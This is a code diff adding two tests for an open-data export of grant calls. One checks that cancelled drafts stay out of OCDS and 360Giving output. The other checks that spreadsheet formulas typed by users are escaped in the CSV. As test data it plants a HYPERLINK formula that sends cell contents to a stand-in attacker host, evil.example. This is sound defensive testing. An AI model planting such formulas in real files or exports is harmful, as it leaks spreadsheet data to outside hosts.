@@ -1,4 +1,7 @@
+import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
+import { cancelCall } from "~/domains/calls/calls.server";
+import { createBudgetSetting, createDraftCall } from "../../../tests/factories-calls";
 import { ocdsPackageValidator, threeSixtyGivingPackageValidator } from "../../../tests/standards/validators";
 import { createFundedProcess } from "../../../tests/factories-open-data";
 import { buildOcdsReleasePackage } from "./ocds.server";
@@ -61,4 +64,45 @@ describe("open data exports", () => {
     expect((await buildOcdsReleasePackage(options)).releases.some((r) => r.tender.id === call.reference)).toBe(false);
     expect((await buildThreeSixtyGivingPackage(options)).grants.some((g) => g.id.endsWith(award.reference))).toBe(false);
   });
+
+  it("never publishes a call that was never published: a draft that was cancelled, with whatever hangs on it", async () => {
+    const { call, award } = await createFundedProcess();
+    const { prisma } = await import("~/utils/db.server");
+    // As if the draft had been cancelled: never published, so no publication instant.
+    await prisma.call.update({ where: { id: call.id }, data: { status: "CANCELLED", publishedAt: null, cancelledReason: "Отменён до публикации." } });
+    const pkg = await buildOcdsReleasePackage(options);
+    expect(pkg.releases.some((r) => r.tender.id === call.reference)).toBe(false);
+    expect((await buildThreeSixtyGivingPackage(options)).grants.some((g) => g.id.endsWith(award.reference))).toBe(false);
+    expect(await buildThreeSixtyGivingCsv(options)).not.toContain(award.reference);
+
+    // Through the officer's own steps: drafted, then cancelled.
+    const { appropriation, officer } = await createBudgetSetting();
+    const draft = await createDraftCall({ actor: officer, appropriationId: appropriation.id });
+    await cancelCall({ actor: officer, callId: draft.id, reason: "Программа пересмотрена до публикации." });
+    const later = await buildOcdsReleasePackage({ ...options, now: new Date(Date.now() + 365 * 24 * 3600 * 1000) });
+    expect(later.releases.some((r) => r.tender.id === draft.reference)).toBe(false);
+  });
+
+  it("writes no live formula into the 360Giving CSV, whatever an organization typed", async () => {
+    const { award, winner } = await createFundedProcess();
+    const { prisma } = await import("~/utils/db.server");
+    await prisma.proposal.update({ where: { id: award.proposalId }, data: { title: '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', summary: "+1+1" } });
+    await prisma.organization.update({ where: { id: winner.id }, data: { nameRu: "@SUM(1,2)" } });
+    const { loader } = await import("~/routes/open-data.360giving[.]csv");
+    const response = await loader();
+    expect(response.headers.get("Content-Type")).toContain("text/csv");
+    const bytes = Buffer.from(await response.arrayBuffer());
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const rows: string[][] = parse(bytes.subarray(3).toString("utf8"));
+    const header = rows[0]!;
+    const { openDataOptions } = await import("./open-data-config.server");
+    const row = rows.find((r) => r[0] === `${openDataOptions().prefix}-${award.reference}`)!;
+    const cell = (name: string) => row[header.indexOf(name)];
+    expect(cell("Title")).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Подробнее")`);
+    expect(cell("Description")).toBe("'+1+1");
+    expect(cell("Recipient Org:Name")).toBe("'@SUM(1,2)");
+    // No cell of the file starts with a formula character any more.
+    expect(rows.flat().filter((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d)/.test(c))).toEqual([]);
+  });
 });
+
